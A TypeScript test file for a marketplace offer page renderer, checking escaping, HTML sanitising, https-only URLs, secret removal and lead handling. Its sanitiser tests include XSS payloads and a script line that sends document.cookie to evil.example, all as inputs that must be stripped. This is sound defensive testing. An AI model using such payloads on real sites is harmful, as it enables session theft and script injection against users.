import type { OfferDraft } from '@mkt/events';
import {
  buildTestLead,
  catalogUrl,
  escapeHtml,
  html,
  httpsUrl,
  packagingSnapshot,
  planLead,
  previewUrl,
  renderProductPage,
  testLeadEntity,
  testLeadId,
  testLeadTableKeys,
} from '../src/domain';

const IDS = { publisherId: 'contoso', offerId: 'web-vm' };

function offer(overrides: Partial<OfferDraft> = {}): OfferDraft {
  return {
    title: 'Contoso Web VM',
    summary: 'A hardened web server',
    description: '<p>Runs <strong>nginx</strong>.</p>',
    categories: ['Web', 'Security'],
    logos: { small: 'https://cdn.contoso.example/logo-48.png', wide: 'https://cdn.contoso.example/logo-wide.png' },
    screenshots: ['https://cdn.contoso.example/shot1.png'],
    privacyPolicyUrl: 'https://contoso.example/privacy',
    termsOfUse: 'Use it well.',
    supportContact: { name: 'Contoso Support', email: 'support@contoso.example', phone: '+1 555 0199' },
    plans: [
      {
        id: 'standard',
        title: 'Standard',
        summary: 'Ubuntu with nginx',
        osFamily: 'Linux',
        osName: 'Ubuntu 22.04',
        recommendedVmSizes: ['Standard_D2s_v5', 'Standard_B2s'],
        openPorts: [{ name: 'HTTPS', port: 443, protocol: 'TCP' }, { port: 22 }],
        imageVersions: [
          {
            version: '1.0.0',
            osDiskUrl: 'https://acct.blob.core.windows.net/vhds/os.vhd?sv=2024&sig=SECRET',
            dataDiskUrls: ['https://acct.blob.core.windows.net/vhds/d.vhd?sig=SECRET2'],
          },
        ],
      },
    ],
    ...overrides,
  };
}

describe('the product page', () => {
  test('given marketing and technical content, then the page combines them: title, summary, description, plans with OS, VM sizes and ports', () => {
    const { html: page } = renderProductPage(offer(), IDS);
    expect(page).toContain('<title>Contoso Web VM</title>');
    expect(page).toContain('<h1>Contoso Web VM</h1>');
    expect(page).toContain('A hardened web server');
    expect(page).toContain('<p>Runs <strong>nginx</strong>.</p>');
    expect(page).toContain('Linux · Ubuntu 22.04');
    expect(page).toContain('<li>Standard_D2s_v5</li>');
    expect(page).toContain('<li>HTTPS 443/TCP</li>');
    expect(page).toContain('<li>22/TCP</li>');
    expect(page).toContain('src="https://cdn.contoso.example/logo-wide.png"');
    expect(page).toContain('src="https://cdn.contoso.example/shot1.png"');
    expect(page).toContain('href="mailto:support@contoso.example"');
  });

  test('given the same offer twice, then page and hash are identical; a changed offer changes the hash', () => {
    const first = renderProductPage(offer(), IDS);
    expect(renderProductPage(offer(), IDS)).toEqual(first);
    expect(first.hash).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(renderProductPage(offer({ summary: 'Another summary' }), IDS).hash).not.toBe(first.hash);
  });

  test('given markup in plain-text fields, then it is escaped everywhere', () => {
    const hostile = '<script>alert(1)</script>"><img src=x onerror=alert(2)>';
    const { html: page } = renderProductPage(
      offer({
        title: hostile,
        summary: hostile,
        categories: [hostile],
        termsOfUse: hostile,
        supportContact: { name: hostile, email: hostile },
        plans: [{ id: hostile, title: hostile, osName: hostile, recommendedVmSizes: [hostile], openPorts: [{ name: hostile, port: 80 }] }],
      }),
      IDS,
    );
    expect(page).not.toContain('<script>');
    expect(page).not.toContain('<img src=x');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(2)&gt;');
  });

  test('given a description with scripts, handlers, styles and javascript: links, then only the allow-listed markup remains', () => {
    const description = [
      '<p onclick="steal()">Hello <em>world</em></p>',
      '<script>document.location="https://evil.example/"+document.cookie</script>',
      '<style>body{display:none}</style>',
      '<iframe src="https://evil.example"></iframe>',
      '<a href="javascript:alert(1)">bad link</a>',
      '<a href="https://contoso.example/docs" target="_self" onmouseover="x()">docs</a>',
      '<img src="https://evil.example/track.gif">',
      '<ul><li>one</li></ul>',
    ].join('');
    const { html: page } = renderProductPage(offer({ description }), IDS);
    const section = /<section class="description">([\s\S]*?)<\/section>/.exec(page)?.[1] ?? '';
    expect(section).toBe(
      // the javascript: link loses its href and so goes nowhere
      '<p>Hello <em>world</em></p><a rel="nofollow noopener noreferrer" target="_blank">bad link</a><a href="https://contoso.example/docs" target="_blank" rel="nofollow noopener noreferrer">docs</a><ul><li>one</li></ul>',
    );
    expect(page).not.toMatch(/<script|<style>body|<iframe|javascript:|onclick|onmouseover|track\.gif/);
  });

  test('given logos and screenshots that are not https, then they are left out', () => {
    const { html: page } = renderProductPage(
      offer({
        logos: {
          wide: 'http://cdn.contoso.example/logo.png',
          large: 'javascript:alert(1)',
          medium: 'data:image/png;base64,AAAA',
          small: 'https://user:pw@cdn.example/l.png',
        },
        screenshots: ['http://insecure.example/s.png', 'https://cdn.contoso.example/ok.png', 'not a url'],
        privacyPolicyUrl: 'javascript:alert(1)',
      }),
      IDS,
    );
    expect(page).not.toContain('class="logo"');
    expect(page).toContain('src="https://cdn.contoso.example/ok.png"');
    expect(page).not.toMatch(/insecure\.example|javascript:|data:image|user:pw|Privacy policy/);
  });

  test('the image disk URLs (with their SAS tokens) never appear on the page', () => {
    expect(renderProductPage(offer(), IDS).html).not.toContain('SECRET');
  });

  test('given a sparse offer, then the page still renders with the offer id as title', () => {
    const { html: page } = renderProductPage({}, IDS);
    expect(page).toContain('<h1>web-vm</h1>');
    expect(page).toContain('<h2>Plans</h2>');
  });
});

describe('html templates', () => {
  test('interpolations are escaped unless they are templates themselves', () => {
    expect(html`<p>${'<b>'}${html`<i>${'&'}</i>`}${['<', html`<br>`]}${undefined}${false}</p>`.value).toBe('<p>&lt;b&gt;<i>&amp;</i>&lt;<br></p>');
    expect(escapeHtml(`'"\``)).toBe('&#39;&quot;&#96;');
  });

  test('httpsUrl accepts only absolute https URLs without credentials', () => {
    expect(httpsUrl(' https://cdn.example/a.png ')).toBe('https://cdn.example/a.png');
    expect([httpsUrl('http://cdn.example/a.png'), httpsUrl('//cdn.example/a.png'), httpsUrl('https://u:p@cdn.example/'), httpsUrl(undefined)]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });
});

describe('the snapshot packaging keeps', () => {
  test('keeps marketing, technical and lead content but drops the disk URLs', () => {
    const snapshot = packagingSnapshot(
      offer({ leadDestination: { type: 'https', https: { url: 'https://leads.example' } }, previewSubscriptionIds: ['sub-1'] }),
    );
    expect(snapshot.plans?.[0].imageVersions).toEqual([{ version: '1.0.0' }]);
    expect(snapshot.plans?.[0].recommendedVmSizes).toEqual(['Standard_D2s_v5', 'Standard_B2s']);
    expect(snapshot.leadDestination?.https?.url).toBe('https://leads.example');
    expect(snapshot.previewSubscriptionIds).toEqual(['sub-1']);
    expect(JSON.stringify(snapshot)).not.toContain('SECRET');
  });
});

describe('lead plans and the test lead', () => {
  test('given no lead destination or type none, then there is no lead generation', () => {
    expect(planLead(offer())).toEqual({ leadGeneration: false });
    expect(planLead(offer({ leadDestination: { type: 'none' } }))).toEqual({ leadGeneration: false });
  });

  test('given an https destination, then the target has URL and Authorization', () => {
    expect(planLead(offer({ leadDestination: { type: 'https', https: { url: 'https://leads.example/in', authorization: 'Bearer s3cret' } } }))).toEqual({
      leadGeneration: true,
      target: { destination: 'https', url: 'https://leads.example/in', authorization: 'Bearer s3cret' },
    });
  });

  test('given an azure table destination, then the target has connection string and table', () => {
    expect(planLead(offer({ leadDestination: { type: 'azure-table', azureTable: { connectionString: 'cs', tableName: 'Leads' } } }))).toEqual({
      leadGeneration: true,
      target: { destination: 'azure-table', connectionString: 'cs', tableName: 'Leads' },
    });
  });

  test('given incomplete or invalid settings, then the plan names the setting', () => {
    expect(planLead(offer({ leadDestination: { type: 'https', https: {} } }))).toMatchObject({ setting: 'leadDestination.https.url', problem: 'missing' });
    expect(planLead(offer({ leadDestination: { type: 'azure-table', azureTable: { tableName: 'Leads' } } }))).toMatchObject({
      setting: 'leadDestination.azureTable.connectionString',
      problem: 'missing',
    });
    expect(planLead(offer({ leadDestination: { type: 'azure-table', azureTable: { connectionString: 'cs', tableName: 'my-leads' } } }))).toMatchObject({
      setting: 'leadDestination.azureTable.tableName',
      problem: 'invalid',
    });
  });

  test('the lead id and table keys are the same on every try of an attempt and differ between attempts and offers', () => {
    expect(testLeadId('contoso/web-vm', 1)).toBe(testLeadId('contoso/web-vm', 1));
    expect(testLeadId('contoso/web-vm', 2)).not.toBe(testLeadId('contoso/web-vm', 1));
    expect(testLeadId('contoso/other', 1)).not.toBe(testLeadId('contoso/web-vm', 1));
    const keys = testLeadTableKeys('contoso/web-vm', 1);
    expect(keys).toEqual(testLeadTableKeys('contoso/web-vm', 1));
    expect(`${keys.partitionKey}${keys.rowKey}`).toMatch(/^[a-z0-9-]+$/);
  });

  test('the test lead is fake, marked as a test, and deterministic', () => {
    const input = { ...IDS, subject: 'contoso/web-vm', attempt: 3, offerTitle: 'Contoso Web VM', createdAt: new Date('2025-01-10T12:00:00Z') };
    const lead = buildTestLead(input);
    expect(lead).toEqual(buildTestLead(input));
    expect(lead).toMatchObject({
      leadId: testLeadId('contoso/web-vm', 3),
      isTest: true,
      offer: { publisherId: 'contoso', offerId: 'web-vm', attempt: 3 },
      createdAt: '2025-01-10T12:00:00.000Z',
    });
    expect(lead.customer.email).toMatch(/@example\.com$/);
    const entity = testLeadEntity(lead, testLeadTableKeys('contoso/web-vm', 3));
    expect(entity).toMatchObject({ rowKey: lead.leadId, LeadId: lead.leadId, IsTest: true, OfferId: 'web-vm', Attempt: 3, Email: 'test.lead@example.com' });
  });
});

test('preview and catalog URLs point at offer-api', () => {
  expect(previewUrl('http://127.0.0.1:3000/', IDS)).toBe('http://127.0.0.1:3000/api/publishers/contoso/offers/web-vm/preview');
  expect(catalogUrl('https://marketplace.example', IDS)).toBe('https://marketplace.example/api/catalog/offers/contoso/web-vm');
});
